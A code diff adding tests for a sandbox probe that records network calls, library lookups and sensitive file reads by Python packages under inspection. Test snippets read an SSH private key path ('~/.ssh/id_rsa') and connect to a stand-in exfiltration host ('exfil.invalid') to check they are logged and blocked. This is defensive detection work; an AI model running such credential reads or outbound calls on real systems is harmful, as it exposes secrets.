@@ -3,7 +3,7 @@ import { spawnSync } from 'node:child_process';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
-import { parseProbeEvents, type ProbeEvent } from '../../../../src/core/packages/gate/probe';
+import { parseHookMarkers, parseProbeEvents, type ProbeEvent } from '../../../../src/core/packages/gate/probe';
 import { findPythonHelpersDir } from '../../../../src/core/pythonHelpers';
 
 /**
@@ -94,6 +94,53 @@ for call in (lambda: socket.getaddrinfo("exfil.invalid", 80), lambda: socket.cre
 `);
     assert.equal(stdout.trim(), 'refused\nrefused');
     assert.deepEqual(events.map((e) => `${e.event} ${e.detail}`), ['socket.getaddrinfo exfil.invalid:80', 'socket.getaddrinfo 127.0.0.1:9']);
+  });
+
+  it('lets ctypes.util.find_library run its lookup tools at import, recorded as a library lookup; importing ctypes records nothing', () => {
+    const { events, stdout } = probe(`
+import ctypes, ctypes.util
+print(ctypes.util.find_library("c"))
+`);
+    assert.match(stdout, /libc\.so/);
+    assert.ok(events.length >= 1, 'ldconfig -p is recorded');
+    for (const e of events) assert.deepEqual([e.kind, e.libraryLookup, e.blocked ?? false], ['process', true, false], JSON.stringify(e));
+    assert.ok(!events.some((e) => e.kind === 'native'), 'ctypes\' own PyDLL(None) is not the package\'s dlopen');
+  });
+
+  it('with the sinkhole in, names resolve to 198.18/15 (recorded, not refused); the connection is refused and names the name', () => {
+    const { events, stdout } = probe(`
+import socket
+from snakepit_probe import sinkhole
+sinkhole.install()
+info = socket.getaddrinfo("exfil.invalid", 443, type=socket.SOCK_STREAM)
+print(info[0][4][0], socket.gethostbyname("exfil.invalid"), socket.gethostbyname("other.invalid"))
+try:
+    socket.create_connection(("exfil.invalid", 443), timeout=1)
+except PermissionError:
+    print("refused")
+`);
+    assert.deepEqual(stdout.trim().split('\n'), ['198.18.0.1 198.18.0.1 198.18.0.2', 'refused']);
+    const lookups = events.filter((e) => e.sinkhole);
+    assert.ok(lookups.length >= 3 && lookups.every((e) => e.blocked !== true && e.kind === 'network'));
+    const connect = events.find((e) => e.event === 'socket.connect');
+    assert.equal(connect?.blocked, true);
+    assert.equal(connect?.detail, '198.18.0.1:443 (exfil.invalid)');
+  });
+
+  it('starts the events with a marker: the pid it watches and from when, its allowed dirs and home; events carry times', () => {
+    const events = path.join(dir, 'marker.jsonl');
+    spawnSync('python3', ['-c', 'import snakepit_probe.hook as h, os\nh.install_from_env()\nopen(os.path.expanduser("~/.ssh/id_rsa")).read()'], {
+      cwd: dir,
+      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', PYTHONPATH: findPythonHelpersDir(), HOME: home, TMPDIR: tmp, SNAKEPIT_PROBE_EVENTS: events, SNAKEPIT_PROBE_PHASE: 'import' },
+    });
+    const text = fs.readFileSync(events, 'utf8');
+    const [marker] = parseHookMarkers(text);
+    assert.ok(marker && marker.pid > 0 && marker.t > 1e9, text);
+    assert.equal(marker.home, fs.realpathSync(home));
+    assert.ok(marker.allowed?.includes(fs.realpathSync(tmp)));
+    const [read] = parseProbeEvents(text);
+    assert.equal(read.kind, 'sensitive-read');
+    assert.ok(read.pid === marker.pid && read.t !== undefined && read.t >= marker.t);
   });
 
   it('records token variables read by name, not a copy of the whole environment', () => {
